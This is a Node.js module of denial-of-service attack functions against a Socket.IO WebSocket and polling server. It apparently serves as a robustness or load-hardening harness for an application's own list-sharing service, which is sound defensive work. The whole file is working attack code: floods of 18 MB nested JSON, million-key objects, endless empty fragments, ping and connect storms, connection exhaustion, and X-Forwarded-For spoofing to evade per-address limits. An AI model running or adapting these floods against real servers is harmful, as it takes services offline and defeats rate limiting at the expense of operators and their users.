/* Attacks through sockets: text written to the wire as it is, bypassing every client's own encoder. */
import { request } from 'node:http';
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';

const megabyte = 1024 * 1024;
const uuid = '0'.repeat(48);
const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

/** One WebSocket frame as sent by a client; the mask is zero, so that masking costs the attacker nothing. */
function frame(payload, opcode = 1) {
  const data = Buffer.from(payload);
  const head =
    data.length < 126
      ? Buffer.from([0x80 | opcode, 0x80 | data.length])
      : data.length < 65_536
        ? Buffer.from([0x80 | opcode, 0xfe, data.length >> 8, data.length & 255])
        : Buffer.concat([Buffer.from([0x80 | opcode, 0xff]), Buffer.alloc(8)]);
  if (data.length >= 65_536) head.writeBigUInt64BE(BigInt(data.length), 2);
  return Buffer.concat([head, Buffer.alloc(4), data]);
}

/** A connection; null, with the reason, if the handshake is refused. */
function open({ url, address, cookie }, { reads = true } = {}) {
  const { hostname, port } = new URL(url);
  return new Promise((done) => {
    const wire = connect(Number(port), hostname);
    let answer = '';
    const line = { wire, isOpen: true, refusals: 0, refused: null };
    wire.on('error', () => undefined);
    wire.on('close', () => {
      line.isOpen = false;
      done({ ...line, isOpen: false, refused: answer.split('\r\n')[0] });
    });
    wire.on('data', (chunk) => {
      const text = chunk.toString('latin1');
      line.refusals += text.split('"ok":false').length - 1;
      if (answer.includes('40{')) return;
      answer += text;
      if (!answer.startsWith('HTTP/1.1 101') && answer.includes('\r\n\r\n')) {
        line.refused = answer.split('\r\n')[0];
        done(line);
      } else if (answer.includes('40{')) {
        if (!reads) wire.pause();
        done(line);
      } else if (answer.includes('"sid"') && !line.asked) {
        line.asked = true;
        wire.write(frame('40{"protocol":1}'));
      }
    });
    wire.write(
      [
        'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
        `Host: ${hostname}:${port}`,
        'Connection: Upgrade',
        'Upgrade: websocket',
        'Sec-WebSocket-Version: 13',
        `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
        `X-Forwarded-For: ${address}`,
        ...(cookie ? [`Cookie: ${cookie}`] : []),
        '',
        '',
      ].join('\r\n'),
    );
  });
}

/** Sends the same message as fast as it is accepted, and reconnects whenever it is disconnected. */
async function flood(target, message, { options, begin = () => undefined } = {}) {
  const sum = { lines: 0, refusedLines: 0, sent: 0, refusals: 0 };
  while (performance.now() < target.until) {
    const line = await open(target, options);
    if (line.refused || !line.isOpen) {
      sum.refusedLines += 1;
      await pause(20);
      continue;
    }
    sum.lines += 1;
    await begin(line);
    while (line.isOpen && performance.now() < target.until) {
      const taken = line.wire.write(message);
      sum.sent += 1;
      if (!taken)
        await Promise.race([
          new Promise((done) => line.wire.once('drain', done).once('close', done)),
          pause(Math.max(0, target.until - performance.now())),
        ]);
      else if (sum.sent % 100 === 0) await pause(0);
    }
    sum.refusals += line.refusals;
    line.wire.destroy();
  }
  return sum;
}

const nested = (length) => '['.repeat(length / 2) + ']'.repeat(length / 2);
const push = (value) =>
  `42["list:push",{"list":"${uuid}","base":1,"change":{"id":"attack-1","operations":[{"op":"setting","scope":"fields","field":"x","value":${value}}]}}]`;
const many = (message, times) => Buffer.concat(Array.from({ length: times }, () => message));

/** Nobody listens for this event, but it was decoded all the same. */
export const unknownNested = (target) => flood(target, frame(`42["no:such:event",${nested(18 * megabyte)}]`));

export const unknownSmall = (target) => flood(target, many(frame('42["no:such:event"]'), 50));

export const closes = (target) => flood(target, many(frame(`42["list:close","${uuid}"]`), 50));

export const nestedPushes = (target) => flood(target, frame(push(nested(18 * megabyte))));

export const densePushes = (target) => flood(target, frame(push(`[${'{},'.repeat(6 * megabyte)}{}]`)));

export const fieldPushes = (target) =>
  flood(
    target,
    frame(push(`{${Array.from({ length: 1_000_000 }, (_, key) => `"${key.toString(36)}":0`).join()}}`)),
  );

export const binary = (target) =>
  flood(
    target,
    many(Buffer.concat([frame('451-["list:push",{"_placeholder":true,"num":0}]'), frame('x', 2)]), 50),
  );

export const namespaces = (target) => flood(target, many(frame('40/admin,{"protocol":1}'), 50));

export const connects = (target) => flood(target, many(frame('40{"protocol":1}'), 50));

export const largeAuth = (target) => flood(target, frame(`40{"protocol":1,"x":${nested(18 * megabyte)}}`));

export const pings = (target) => flood(target, many(frame('', 9), 200));

export const pongs = (target) => flood(target, many(frame('3'), 200));

/** Fragments of a message that never ends, each of them empty. */
export const fragments = (target) => {
  const piece = frame('', 0);
  piece[0] = 0;
  const first = frame('4');
  first[0] = 1;
  return flood(target, many(piece, 500), { begin: (line) => line.wire.write(first) });
};

/** Opens the largest list that it finds, again and again, and reads nothing of it. */
export const opensUnread = (target) =>
  flood(target, frame(`421["list:open",{"list":"${target.list ?? 'large'}"}]`), {
    options: { reads: false },
  });

export const manyLines = async (target) => {
  const lines = [];
  let refused = 0;
  // A slow machine takes a while until it has opened so many.
  const atMost = target.until + 30_000;
  while (performance.now() < (refused ? target.until : atMost)) {
    const some = await Promise.all(Array.from({ length: 20 }, () => open(target)));
    for (const line of some) {
      if (line.refused || !line.isOpen) refused += 1;
      else lines.push(line);
    }
    await pause(refused ? 200 : 0);
  }
  const still = lines.filter(({ isOpen }) => isOpen).length;
  return { opened: lines.length, stillOpen: still, refused };
};

/** Connections that poll, with as much as one request may carry: nested, or many packets. */
export const polls = async (target) => {
  const statuses = {};
  const bodies = [`42["no:such:event",${nested(18 * megabyte)}]`, '3\u001E'.repeat(9 * megabyte)];
  const headers = { 'content-type': 'text/plain', 'x-forwarded-for': target.address };
  const ask = (query, method, body) =>
    new Promise((done) => {
      const address = new URL(`/socket.io/?EIO=4&transport=polling${query}`, target.url);
      const asking = request(address, { method, headers }, (answer) => {
        let text = '';
        answer.setEncoding('utf8');
        answer.on('data', (chunk) => (text += chunk));
        answer.on('end', () => done({ status: answer.statusCode, text }));
      });
      asking.on('error', () => done({ status: 0, text: '' }));
      asking.end(body);
    });
  for (let n = 0; performance.now() < target.until; n += 1) {
    const { text } = await ask('', 'GET');
    const sid = /"sid":"([^"]+)"/.exec(text)?.[1] ?? '';
    const { status } = await ask(`&sid=${sid}`, 'POST', bodies[n % 2]);
    statuses[status] = (statuses[status] ?? 0) + 1;
  }
  return { statuses };
};
